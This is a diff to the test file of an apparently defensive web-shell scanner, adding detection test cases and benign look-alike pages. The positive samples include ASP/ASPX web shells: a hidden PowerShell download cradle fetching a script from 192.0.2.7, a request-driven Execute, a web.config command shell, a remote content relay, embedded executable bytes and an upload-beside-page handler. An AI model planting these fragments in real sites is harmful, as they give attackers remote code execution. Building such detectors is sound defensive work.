@@ -488,6 +488,21 @@ fn cases() -> Vec<Case> {
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers accessPolicy=\"Read, Script, Write\">\n   <add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n  </handlers>\n  <security><requestFiltering><fileExtensions><remove fileExtension=\".config\" /></fileExtensions></requestFiltering></security>\n </system.webServer>\n</configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"q\")).StdOut.ReadAll()) %> -->\n",
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
         ),
+        case(
+            "EXRAY_NET_Dynamic_PInvoke",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic object Call(string lib, string fn, Type ret, object[] args, Type[] types) {\n  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName(\"n\"), AssemblyBuilderAccess.Run);\n  var mb = ab.DefineDynamicModule(\"m\");\n  var m = mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static, CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);\n  mb.CreateGlobalFunctions();\n  return mb.GetMethod(fn).Invoke(null, args);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Runtime.InteropServices\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32.dll\")]\nstatic extern uint GetTickCount();\nprotected void Page_Load(object s, EventArgs e) { uptime.Text = (GetTickCount() / 1000).ToString(); }\n</script>\n",
+        ),
+        case(
+            "EXRAY_NET_Page_Rewrites_Itself_And_Compiles",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<%@ Import Namespace=\"System.Web.Compilation\" %>\n<%\nstring me = Request.PhysicalPath;\nstring keep = File.ReadAllText(me);\nFile.WriteAllText(me, Decode(Hidden));\nvar p = (Page)BuildManager.CreateInstanceFromVirtualPath(\"~\" + Request.FilePath, typeof(Page));\nFile.WriteAllText(me, keep);\np.ProcessRequest(HttpContext.Current);\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Web.Compilation\" %>\n<script runat=\"server\">\nprotected void Page_Init(object s, EventArgs e) {\n  var t = BuildManager.GetCompiledType(\"~/Controls/\" + Theme + \"/Header.ascx\");\n  File.AppendAllText(Server.MapPath(\"~/App_Data/render.log\"), t.FullName + Environment.NewLine);\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_Page_Starts_Download_Cradle",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<%\nvar p = new Process();\np.StartInfo.FileName = \"powershell.exe\";\np.StartInfo.Arguments = \"-NoP -W Hidden -Exec Bypass -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\";\np.Start();\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nprotected void Export_Click(object s, EventArgs e) {\n  var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"--quiet report.html report.pdf\");\n  psi.UseShellExecute = false;\n  Process.Start(psi).WaitForExit();\n  // The help page explains: run IEX only from a trusted console, never DownloadString from a page.\n}\n</script>\n",
+        ),
     ]
 }
 
@@ -755,5 +770,44 @@ fn scanner_is_reused_across_files() {
         let pos = format!("<% eval(Request.Item[\"k{i}\"]) %>");
         assert!(!s.scan("p", pos.as_bytes()).unwrap().is_empty());
         assert!(s.scan("n", b"<html>plain</html>").unwrap().is_empty());
+    }
+}
+
+/// Shapes of real applications that share a rule's strings but not its data flow (checked by
+/// `exray_yara::flow`), and the shells the same rules must still see. Each negative fires no rule.
+#[test]
+fn data_flow_tells_applications_from_shells() {
+    let quiet = [
+        // A plugin hook: the executed name is registered elsewhere, the request is read for itself.
+        "<!--#include file=\"c_system_lib.asp\"-->\n<%\nq = TransferHTML(Request.QueryString(\"q\"), \"[nohtml]\")\nIf Not IsEmpty(sAction_Plugin_Search_Begin) Then Call Execute(sAction_Plugin_Search_Begin)\nResponse.Write Server.HTMLEncode(q)\n%>\n",
+        // A template engine: markers replaced by values, the compiled template executed.
+        "<%\nFunction Compile(code, name)\n  Dim s\n  s = Replace(code, \"{name}\", name)\n  s = Replace(s, \"{i}\", idx)\n  s = Replace(s, \"{tab}\", vbTab)\n  Compile = Join(Split(s, vbNullChar), vbCrLf)\nEnd Function\ntpl = Compile(LoadTemplate(\"list\"), \"articles\")\nExecute(tpl)\n%>\n",
+        // An update check: the answer is parsed and shown in markup.
+        "<%\nd = Request.ServerVariables(\"SERVER_NAME\")\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.open \"GET\", \"http://update.example.org/check?domain=\" & d, False\nx.send\nv = Left(x.responseText, 8)\nResponse.Write \"<p>Latest version: \" & Server.HTMLEncode(v) & \"</p>\"\n%>\n",
+        // Intranet sign-in: the signed-in user's own groups.
+        "<%\nu = Replace(Request.ServerVariables(\"AUTH_USER\"), \"\\\\\", \"/\")\nSet info = GetObject(\"WinNT://\" + u)\nFor Each g In info.Groups\n  groups = groups & \", \" & g.Name\nNext\nSession(\"groups\") = groups\n%>\n",
+        // An admin information page inside its application.
+        "<!--#include file=\"config.asp\"-->\n<!--#include file=\"inc_admin_check.asp\"-->\n<%\nFor Each key In Request.ServerVariables\n  Response.Write \"<tr><td>\" & key & \"</td><td>\" & Server.HTMLEncode(Request.ServerVariables(key)) & \"</td></tr>\"\nNext\n%>\n",
+        // An installer writing its configuration, database password included.
+        "<%\ndbpass = Request.Form(\"pwd\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"data/site.ini\"), True)\nf.WriteLine \"[database]\"\nf.WriteLine \"password=\" & dbpass\nf.Close\n%>\n",
+        // A setup page reading the database script the admin picked, to show it.
+        "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = fs.OpenTextFile(Server.MapPath(\"dbs/\" & Request.Form(\"mod\")), 1, False)\nResponse.Write \"<pre>\" & Server.HTMLEncode(t.ReadAll) & \"</pre>\"\nt.Close\n%>\n",
+        // A login page: the connection string comes from the configuration include.
+        "<!--#include file=\"config.asp\"-->\n<%\nuser = Request.Form(\"user\")\nret = Request.Form(\"ReturnTo\")\nSet my_Conn = Server.CreateObject(\"ADODB.Connection\")\nmy_Conn.Open strConnString\nstrSql = \"SELECT id FROM members WHERE name = '\" & ChkString(user) & \"'\"\nSet rs = my_Conn.Execute(strSql)\n%>\n",
+    ];
+    for page in quiet {
+        assert_eq!(hits(page), BTreeSet::new(), "fired on:\n{page}");
+    }
+    let loud = [
+        ("EXRAY_VBS_Eval_Request_Variable", "<%\nSet d = Server.CreateObject(\"Scripting.Dictionary\")\nk = \"pay\" & \"load\"\nd.Add k, Session(k)\nSession(k) = Request.Form(\"z\")\nExecute(d(k))\n%>\n"),
+        ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nme = \"http://\" & Request.ServerVariables(\"HTTP_HOST\") & Request.ServerVariables(\"SCRIPT_NAME\")\nbody = Fetch(src & \"index.php?host=\" & me)\nResponse.Write body\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%>\n"),
+        ("EXRAY_SQL_Console_Request_Variables", "<%\ncs = Request.Form(\"c\")\nq = Request.Form(\"q\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open cs\nSet rs = conn.Execute(q)\n%>\n"),
+        ("EXRAY_Page_Embedded_Executable", "<%\nb = Chr(77)&Chr(90)&Chr(144)&Chr(0)&Chr(3)&Chr(0)\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, 2, 0)\nf.Write b\n%>\n"),
+        ("EXRAY_Page_Embedded_Executable", "<%@ Page Language=\"C#\" %>\n<% byte[] pe = new byte[] { 0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00 }; %>\n"),
+        ("EXRAY_NET_Unicode_Escaped_Code", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : \\u0053\\u200c\\U00000079\\U0000200d\\u0073\\ufeff\\u0074em.Web.IHttpHandler { }\n"),
+        ("EXRAY_Upload_Beside_Page", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n  f.SaveAs(Server.MapPath(\"./\") + f.FileName);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n"),
+    ];
+    for (rule, page) in loud {
+        assert!(hits(page).contains(rule), "{rule} missed:\n{page}");
     }
 }
